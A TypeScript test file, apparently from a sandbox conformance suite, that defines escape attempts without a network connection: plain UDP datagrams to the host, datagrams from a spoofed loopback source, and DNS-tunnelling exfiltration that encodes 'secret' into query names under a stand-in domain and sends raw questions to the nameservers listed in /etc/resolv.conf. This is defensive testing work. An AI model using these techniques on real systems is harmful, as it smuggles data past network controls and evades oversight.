// Ways out that need no connection: datagrams, and what is carried in questions to name servers.
import type { Way } from '../way.ts';

export const datagramWays: readonly Way[] = [
  {
    name: 'sends datagrams to the host, which counts them',
    control: 'as the user',
    attempt: {
      kind: 'code',
      inside: async ({ dgram }, t) => {
        const socket = dgram.createSocket('udp4');
        const answered = new Promise<string>((resolve) => {
          socket.once('message', () => resolve('through'));
          setTimeout(resolve, 400, 'no answer');
        });
        socket.on('error', () => undefined);
        for (const host of t.hostAddresses.filter((one) => one.includes('.'))) socket.send('ask', t.hostUdpPort, host);
        const outcome = await answered;
        socket.close();
        return outcome;
      },
    },
  },
  {
    name: 'sends a datagram with a source address that is not its own',
    control: 'as the user',
    attempt: {
      kind: 'code',
      // 127.6.6.6 is an address of every host's loopback, and of nobody inside.
      inside: async ({ dgram }, t) => {
        const socket = dgram.createSocket('udp4');
        const bound = await new Promise<string>((resolve) => {
          socket.once('error', (error) => resolve(String((error as NodeJS.ErrnoException).code)));
          socket.bind(0, '127.6.6.6', () => resolve('bound'));
        });
        if (bound !== 'bound') return bound;
        const answered = new Promise<string>((resolve) => {
          socket.once('message', () => resolve('through'));
          setTimeout(resolve, 400, 'no answer');
        });
        socket.send('ask', t.hostUdpPort, '127.0.0.1');
        const outcome = await answered;
        socket.close();
        return outcome;
      },
    },
  },
  {
    name: 'carries data out in the names of DNS questions',
    control: {
      because:
        'the conformance suite counts datagrams at a socket of the host; a name server outside is not to be asked',
    },
    attempt: {
      kind: 'code',
      inside: async ({ dns, fs, dgram }, t) => {
        const servers = (fs.readFileSync('/etc/resolv.conf', 'utf8').match(/^nameserver\s+(\S+)/gm) ?? []).map(
          (line) => line.split(/\s+/)[1] ?? '',
        );
        const looked = await dns.lookup('c2VjcmV0.tunnel.platform.example').then(
          () => 'through',
          (error) => String(error.code),
        );
        const asked = await dns.resolveTxt('c2VjcmV0.tunnel.platform.example').then(
          () => 'through',
          (error) => String(error.code),
        );
        // A question by hand, to every server that it might know and to the host.
        const question = Buffer.from('0001010000010000000000000674756e6e656c076578616d706c650000010001', 'hex');
        const socket = dgram.createSocket('udp4');
        socket.on('error', () => undefined);
        const answered = new Promise<string>((resolve) => {
          socket.once('message', () => resolve('through'));
          setTimeout(resolve, 400, 'no answer');
        });
        for (const server of [...servers, '127.0.0.53', '127.0.0.11', ...t.hostAddresses].filter((one) =>
          one.includes('.'),
        ))
          socket.send(question, 53, server);
        const outcome = await answered;
        socket.close();
        return [looked, asked, outcome].includes('through') ? 'through' : `${looked} ${asked} ${outcome}`;
      },
    },
  },
];
